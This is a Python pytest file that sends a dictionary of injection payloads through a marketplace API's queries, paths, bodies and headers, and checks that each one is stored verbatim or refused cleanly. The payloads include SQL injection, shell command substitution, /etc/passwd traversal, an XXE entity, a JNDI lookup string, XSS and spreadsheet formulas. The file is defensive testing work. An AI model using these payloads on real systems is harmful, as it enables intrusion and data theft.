"""Texts that would do harm where they were taken for something else: stored as text, or refused."""

import json
import re
from unicodedata import normalize
from urllib.parse import quote

import pytest

from tests.api.conftest import Standing
from tests.support.api import Api, Json, need, offer, organization
from tests.support.raw import raw_headers

PAYLOADS = {
    "SQL": "'; DROP TABLE listings; --",
    "SQL condition": "' OR '1'='1",
    "SQL comment": "1/**/UNION/**/SELECT/**/secret_hash/**/FROM/**/api_keys",
    "SQL dollar": "$$; SELECT pg_sleep(5); $$",
    "LIKE": "%_%\\",
    "SQL bind": ":portal %(portal)s ? $1",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0.__class__}",
    "format": "{portal} {key!r:>99999}",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "formula": "=cmd|' /C calc'!A0",
    "formula plus": '+HYPERLINK("https://example.org","x")',
    "header": "x\r\nSet-Cookie: a=b",
    "log": "x\n2026-11-22 request path=/v1 status=200",
    "path": "../../../../etc/passwd",
    "shell": "$(id) `id` | id; id && id",
    "look-alike": "Кaтaнкa мeднaя",
    "right to left": "\u202eяанидем\u202c",
    "zero width": "Кат\u200bанка",
    "combining": "К" + "\u0301" * 50,
    "JSON": '{"$gt": ""} [] null',
    "XML": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "jndi": "${jndi:ldap://example.org/a}",
    "emoji": "🏭" * 20,
}
each_payload = pytest.mark.parametrize("name", PAYLOADS)
QUERIES = [
    "/v1/offers?q={}", "/v1/offers?code={}", "/v1/offers?industry={}", "/v1/offers?country={}",
    "/v1/offers?cursor={}", "/v1/offers?sort={}", "/v1/offers?organization_id={}",
    "/v1/offers/facets?q={}", "/v1/organizations?identifier={}", "/v1/organizations?q={}",
    "/v1/nomenclature?q={}", "/v1/nomenclature/{}", "/v1/scorecards/{}", "/v1/decisions?verdict={}",
    "/v1/offers/{}", "/v1/needs/{}/suggestions", "/v1/portals/{}", "/v1/claims?state={}",
    "/v1/claims?cursor={}", "/v1/offers/{}/history", "/{}",
]  # fmt: skip


def clean(answer: object) -> bool:
    """Whether an answer is no server error and gives nothing of the inside away."""
    status, text = answer.status_code, answer.text  # type: ignore[attr-defined]
    inside = (
        "Traceback",
        "sqlalchemy",
        "asyncpg",
        "FROM listings",
        "/site-packages/",
    )
    return status < 500 and not any(word in text for word in inside)


@each_payload
async def test_queries_and_paths_are_answered_or_refused(standing: Standing, name: str) -> None:
    for path in QUERIES:
        sent = path.replace("{}", quote(PAYLOADS[name], safe=""))
        answer = await standing.api.client.get(sent, headers=standing.api.headers)
        assert clean(answer), (path, answer.text)
        assert "set-cookie" not in answer.headers


@each_payload
async def test_texts_come_back_as_they_were_sent(standing: Standing, name: str) -> None:
    api, text = standing.api, PAYLOADS[name]
    body = organization(name=text, city=text, description=text)
    answer = await api.client.post("/v1/organizations", json=body, headers=api.headers)
    assert clean(answer), answer.text
    if answer.status_code == 422:
        assert {e["code"] for e in answer.json()["errors"]} <= {"control_character"}
        return
    stored = answer.json()
    # Composed, trimmed and without unseen breaks, as every text; otherwise it is what was sent.
    kept = normalize("NFC", text.replace("\u200b", "")).split()
    assert stored["description"].split() == kept
    for make, noun in ((offer, "offers"), (need, "needs")):
        made = await api.client.post(
            f"/v1/{noun}",
            json=make(stored["id"], title=text, description=text, standards=[text]),
            headers=api.headers,
        )
        assert clean(made), made.text
        if made.status_code == 201:
            key = made.json()["id"]
            found = await api.client.get(f"/v1/{noun}/{key}/suggestions", headers=api.headers)
            assert found.status_code == 200, found.text
            past = await api.client.get(f"/v1/{noun}/{key}/history", headers=api.headers)
            assert past.json()["items"][0]["after"]["title"].split() == kept


@each_payload
async def test_questions_may_say_anything(standing: Standing, name: str) -> None:
    text = PAYLOADS[name]
    bodies: list[tuple[str, Json]] = [
        ("/v1/suggestions", {"queries": [{"id": text, "title": text, "description": text}]}),
        ("/v1/suggestions", {"queries": [{"title": "медь", "cursor": text}]}),
        ("/v1/suggestions/explain", {"need": {"title": text}, "offer": {"description": text}}),
        ("/v1/suggestions/explain", {"need_id": text, "offer_id": text, "scorecard": text}),
        ("/v1/keys", {"name": text, "portal": text, "scopes": [text]}),
        ("/v1/portals", {"name": text, "title": text, "provider": {"key_set": text}}),
    ]
    for path, body in bodies:
        answer = await standing.api.client.post(path, json=body, headers=standing.api.headers)
        assert clean(answer), (path, answer.text)


HEADERS = [
    "If-Match", "If-None-Match", "Idempotency-Key", "X-Request-ID", "Accept-Language",
    "Min-Revision", "Authorization", "Content-Type", "X-Forwarded-For", "Range", "Accept",
]  # fmt: skip


@each_payload
async def test_headers_may_say_anything(
    standing: Standing, stored: dict[str, str], name: str
) -> None:
    value = PAYLOADS[name].replace("\r", "").replace("\n", " ")
    path = f"/v1/organizations/{stored['organizations']}"
    for header in HEADERS:
        sent = raw_headers(standing.api.headers, {header: value}, encoding="utf-8")
        read = await standing.api.client.get(path, headers=sent)
        assert clean(read) or read.status_code == 503, (header, read.text)
        wrote = await standing.api.client.patch(path, content=b"{}", headers=sent)
        assert clean(wrote), (header, wrote.text)
        for answer in (read, wrote):
            assert (
                value not in json.dumps(dict(answer.headers), ensure_ascii=False) or len(value) < 3
            )


async def test_the_registry_is_as_it_was(api: Api) -> None:
    await api.add_organization(name=PAYLOADS["SQL"])
    assert (await api.get("/v1/offers/facets", q=PAYLOADS["SQL"]))["total"] == 0
    assert (await api.get("/v1/organizations/facets", q="DROP TABLE"))["total"] == 1
    # A percent sign is a sign, not a wildcard.
    assert (await api.get("/v1/organizations/facets", q="%"))["total"] == 0


@pytest.mark.parametrize("made_up", ["", "A", "e30", "W10", "====", "%00", "e30.e30", "x" * 4000])
async def test_made_up_cursors_are_refused(standing: Standing, made_up: str) -> None:
    for path in ("/v1/offers", "/v1/claims", "/v1/decisions", "/v1/organizations"):
        answer = await standing.api.client.get(
            path, params={"cursor": made_up}, headers=standing.api.headers
        )
        form = re.fullmatch(r"[A-Za-z0-9_-]{1,4000}", made_up)
        assert answer.status_code == (404 if form else 422), answer.text
        assert answer.json()["code"] == ("invalid_cursor" if form else "invalid_input")
